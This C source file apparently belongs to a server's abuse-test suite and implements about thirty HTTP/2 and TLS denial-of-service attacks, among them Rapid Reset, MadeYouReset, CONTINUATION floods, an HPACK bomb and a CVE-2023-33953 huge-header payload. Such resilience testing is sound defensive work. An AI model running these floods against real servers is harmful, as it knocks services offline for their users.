#include "tests/abuse/attacks.h"

#include <stdlib.h>
#include <string.h>

#define END_STREAM 1
#define BATCH      200

atomic_long sent;

/* ---- one connection's part of an attack: each returns false once the server ended it ---- */

/* A frame of this kind, n times. */
static bool flood(struct peer *p, int type, int flags, uint32_t stream, const void *bytes,
                  size_t n)
{
    struct bytes b = {0};
    bool ok = true;

    for (int i = 0; i < BATCH; i++)
        put_frame(&b, type, flags, stream, bytes, n);
    for (int done = 0; ok && done < options.n; done += BATCH) {
        ok = peer_send(p, b.p, b.n);
        if (ok)
            atomic_fetch_add(&sent, BATCH);
    }
    drop(&b);
    return ok && peer_listen(p, 0.3);
}

static bool open_one_call(struct peer *p)
{
    struct bytes b = {0};
    bool ok;

    put_call(&b, 1, 0, NULL, NULL, 0);
    ok = peer_send(p, b.p, b.n);
    drop(&b);
    return ok;
}

/* n calls, each written by `one`. */
static bool calls(struct peer *p, void (*one)(struct bytes *b, uint32_t stream))
{
    struct bytes b = {0};
    bool ok = true;

    for (int i = 0; ok && i < options.n; i += BATCH) {
        int most = options.n - i < BATCH ? options.n - i : BATCH;

        b.n = 0;
        for (int k = 0; k < most; k++)
            one(&b, (uint32_t)(2 * (i + k) + 1));
        ok = peer_send(p, b.p, b.n);
        if (ok)
            atomic_fetch_add(&sent, most);
    }
    drop(&b);
    return ok && peer_listen(p, 0.3);
}

static const uint8_t CANCEL[4] = {0, 0, 0, 8};
static const uint8_t EMPTY[5];

static void reset_at_once(struct bytes *b, uint32_t stream)
{
    put_call(b, stream, 0, NULL, NULL, 0);
    put_frame(b, 3, 0, stream, CANCEL, 4);
}

static void reset_when_whole(struct bytes *b, uint32_t stream)
{
    put_call(b, stream, 0, NULL, NULL, 0);
    put_frame(b, 0, END_STREAM, stream, EMPTY, 5);
    put_frame(b, 3, 0, stream, CANCEL, 4);
}

static void overflow_window(struct bytes *b, uint32_t stream)
{
    put_call(b, stream, 0, NULL, NULL, 0);
    put_frame(b, 8, 0, stream, "\x7f\xff\xff\xff", 4);
}

static void zero_window_update(struct bytes *b, uint32_t stream)
{
    put_call(b, stream, 0, NULL, NULL, 0);
    put_frame(b, 8, 0, stream, "\0\0\0\0", 4);
}

static void bad_bin(struct bytes *b, uint32_t stream)
{
    put_call(b, stream, 0, "x-foo-bin", "!!not base64!!", 14);
    put_frame(b, 0, END_STREAM, stream, EMPTY, 5);
}

static void never_ended(struct bytes *b, uint32_t stream)
{
    put_call(b, stream, 0, NULL, NULL, 0);
}

static void much_metadata(struct bytes *b, uint32_t stream)
{
    char *value = malloc((size_t)options.bytes);

    memset(value, 'a', (size_t)options.bytes);
    put_call(b, stream, 0, "x-big", value, (size_t)options.bytes);
    put_frame(b, 0, END_STREAM, stream, EMPTY, 5);
    free(value);
}

static void whole_call(struct bytes *b, uint32_t stream)
{
    put_call(b, stream, 0, NULL, NULL, 0);
    put_frame(b, 0, END_STREAM, stream, EMPTY, 5);
}

static bool continuations(struct peer *p, size_t bytes)
{
    struct bytes b = {0}, part = {0};
    bool ok = true;

    put_call(&b, 1, 0, NULL, NULL, 0);
    b.p[4] = 0; /* END_HEADERS off */
    ok = peer_send(p, b.p, b.n);
    for (int i = 0; i < (int)bytes / 110; i++)
        put_literal(&part, "x-0123456",
                    "vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv"
                    "vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv",
                    99);
    ok = ok && flood(p, 9, 0, 1, part.p, part.n);
    drop(&b);
    drop(&part);
    return ok;
}

/* One value that announces a gigabyte (CVE-2023-33953). */
static bool huge_value(struct peer *p)
{
    static const uint8_t head[] = {0x83, 0x87, 0,    3,    'x',  '-', 'a',
                                   0x7f, 0x80, 0xff, 0xff, 0xff, 3};
    static uint8_t part[16384];
    struct bytes b = {0};
    bool ok;

    memset(part, 'a', sizeof(part));
    put_frame(&b, 1, 0, 1, head, sizeof(head));
    ok = peer_send(p, b.p, b.n) && flood(p, 9, 0, 1, part, sizeof(part));
    drop(&b);
    return ok;
}

/* 4 kB into the table, then thousands of references of a byte each, stream after stream. */
static bool hpack_bomb(struct peer *p)
{
    struct bytes b = {0}, block = {0}, call = {0};
    char value[3900];
    bool ok = true;

    memset(value, 'a', sizeof(value));
    for (int i = 0; ok && i < options.n; i++) {
        size_t at;

        b.n = block.n = call.n = 0;
        put_call(&call, 1, 0, NULL, NULL, 0);
        put(&block, call.p + 9, call.n - 9);
        at = block.n;
        if (i == 0) {
            put_literal(&block, "x-bomb", value, sizeof(value));
            block.p[at] = 0x40;
        }
        for (int k = 0; k < options.each; k++)
            put(&block, "\xbe", 1);
        put_frame(&b, 1, 4, (uint32_t)(2 * i + 1), block.p, block.n);
        ok = peer_send(p, b.p, b.n);
        atomic_fetch_add(&sent, ok);
    }
    drop(&b);
    drop(&block);
    drop(&call);
    return ok && peer_listen(p, 0.3);
}

/* Calls whose answers the peer gives no room for. */
static bool window_zero(struct peer *p)
{
    struct bytes b = {0};
    uint8_t body[1008] = {0, 0, 0, 3, 0xeb, 0x0a, 0xe8, 7}; /* EchoRequest.payload of 1,000 */
    bool ok = true;

    for (int i = 0; ok && i < options.each; i++) {
        b.n = 0;
        put_call(&b, (uint32_t)(2 * i + 1), 0, NULL, NULL, 0);
        put_frame(&b, 0, END_STREAM, (uint32_t)(2 * i + 1), body, sizeof(body));
        ok = peer_send(p, b.p, b.n);
        atomic_fetch_add(&sent, ok);
    }
    drop(&b);
    return ok && peer_listen(p, options.seconds);
}

/* A message is announced, and comes a byte now and then. */
static bool slow_bodies(struct peer *p)
{
    struct bytes b = {0};
    uint8_t head[6] = {0, 0, 0, 0x10, 0, 'a'};
    double end = now_s() + options.seconds;
    bool ok = true;

    for (int i = 0; i < options.each; i++) {
        put_call(&b, (uint32_t)(2 * i + 1), 0, NULL, NULL, 0);
        put_frame(&b, 0, 0, (uint32_t)(2 * i + 1), head, sizeof(head));
    }
    ok = peer_send(p, b.p, b.n);
    atomic_fetch_add(&sent, options.each);
    while (ok && now_s() < end) {
        b.n = 0;
        for (int i = 0; i < options.each; i += options.each / 20 + 1)
            put_frame(&b, 0, 0, (uint32_t)(2 * i + 1), "a", 1);
        ok = peer_send(p, b.p, b.n) && peer_listen(p, 0.5);
    }
    drop(&b);
    return ok;
}

/* Large messages that lack their last byte. */
static bool large_bodies(struct peer *p)
{
    struct bytes b = {0};
    size_t n = (size_t)options.bytes;
    uint8_t *body = calloc(1, n + 4);
    bool ok = true;

    for (int i = 0; i < 4; i++)
        body[1 + i] = (uint8_t)(n >> (24 - 8 * i));
    for (int i = 0; ok && i < options.each; i++) {
        b.n = 0;
        put_call(&b, (uint32_t)(2 * i + 1), 0, NULL, NULL, 0);
        for (size_t at = 0; at < n + 4; at += 16384)
            put_frame(&b, 0, 0, (uint32_t)(2 * i + 1), body + at,
                      n + 4 - at < 16384 ? n + 4 - at : 16384);
        ok = peer_send(p, b.p, b.n);
        atomic_fetch_add(&sent, ok);
    }
    free(body);
    drop(&b);
    return ok && peer_listen(p, options.seconds);
}

static bool trailers(struct peer *p)
{
    struct bytes b = {0}, block = {0};
    bool ok = true;

    while (block.n < 15000)
        put_literal(&block, "x", "y", 1);
    for (int i = 0; ok && i < options.n; i++) {
        b.n = 0;
        put_call(&b, (uint32_t)(2 * i + 1), 0, NULL, NULL, 0);
        put_frame(&b, 1, 5, (uint32_t)(2 * i + 1), block.p, block.n);
        ok = peer_send(p, b.p, b.n);
        atomic_fetch_add(&sent, ok);
    }
    drop(&b);
    drop(&block);
    return ok && peer_listen(p, 0.3);
}

/* TLS alone: new keys again and again (no application data, so no HTTP/2 budget sees it). */
static bool key_updates(struct peer *p)
{
    for (int i = 0; i < options.n; i++) {
        if (SSL_key_update(p->tls, SSL_KEY_UPDATE_NOT_REQUESTED) != 1 ||
            SSL_do_handshake(p->tls) != 1)
            return false;
        if (i % 8 == 0 && !peer_listen(p, 0))
            return false;
        atomic_fetch_add(&sent, 1);
    }
    return peer_listen(p, 0.3);
}

static bool idle(struct peer *p)
{
    return peer_listen(p, options.seconds);
}

/* ---- the table ---- */

static bool ping(struct peer *p)
{
    return flood(p, 6, 0, 0, "12345678", 8);
}
static bool pong(struct peer *p)
{
    return flood(p, 6, 1, 0, "12345678", 8);
}
static bool settings(struct peer *p)
{
    return flood(p, 4, 0, 0, "\0\4\0\0\xff\xff", 6);
}
static bool priority(struct peer *p)
{
    return flood(p, 2, 0, 3, "\0\0\0\0\x10", 5);
}
static bool window_update(struct peer *p)
{
    return flood(p, 8, 0, 0, "\0\0\0\1", 4);
}
static bool unknown_frames(struct peer *p)
{
    return flood(p, 0x42, 0, 0, "12345678", 8);
}
static bool empty_data(struct peer *p)
{
    return open_one_call(p) && flood(p, 0, 0, 1, "", 0);
}
static bool empty_continuations(struct peer *p)
{
    return continuations(p, 0);
}
static bool full_continuations(struct peer *p)
{
    return continuations(p, 10000);
}
static bool rapid_reset(struct peer *p)
{
    return calls(p, reset_at_once);
}
static bool reset_whole(struct peer *p)
{
    return calls(p, reset_when_whole);
}
static bool made_you_reset(struct peer *p)
{
    return calls(p, overflow_window);
}
static bool zero_update(struct peer *p)
{
    return calls(p, zero_window_update);
}
static bool bad_bins(struct peer *p)
{
    return calls(p, bad_bin);
}
static bool never_end(struct peer *p)
{
    return calls(p, never_ended) && idle(p);
}
static bool metadata(struct peer *p)
{
    return calls(p, much_metadata);
}
static bool many_calls(struct peer *p)
{
    return calls(p, whole_call) && peer_listen(p, 1);
}

const struct attack attacks[] = {
    {"rapid-reset", rapid_reset, HTTP2},
    {"reset-whole-calls", reset_whole, HTTP2},
    {"made-you-reset", made_you_reset, HTTP2},
    {"zero-window-update", zero_update, HTTP2},
    {"continuations", full_continuations, HTTP2},
    {"empty-continuations", empty_continuations, HTTP2},
    {"hpack-bomb", hpack_bomb, HTTP2},
    {"huge-value", huge_value, HTTP2},
    {"trailers", trailers, HTTP2},
    {"ping", ping, HTTP2},
    {"ping-unread", ping, UNREAD},
    {"pong", pong, HTTP2},
    {"settings", settings, HTTP2},
    {"settings-unread", settings, UNREAD},
    {"priority", priority, HTTP2},
    {"window-update", window_update, HTTP2},
    {"unknown-frames", unknown_frames, HTTP2},
    {"empty-data", empty_data, HTTP2},
    {"window-zero", window_zero, NO_ROOM},
    {"answers-unread", many_calls, UNREAD},
    {"slow-bodies", slow_bodies, HTTP2},
    {"large-bodies", large_bodies, HTTP2},
    {"never-ended", never_end, HTTP2},
    {"metadata", metadata, HTTP2},
    {"bad-bin", bad_bins, HTTP2},
    {"many-calls", many_calls, HTTP2},
    {"key-updates", key_updates, HTTP2},
    {"renegotiations", renegotiations, TLS12},
    {"idle", idle, HTTP2},
    {"connects", NULL, TCP},
    {"handshakes", NULL, SHAKE},
    {"slow-handshakes", NULL, BYTES},
    {"garbage", NULL, BYTES},
    {0},
};
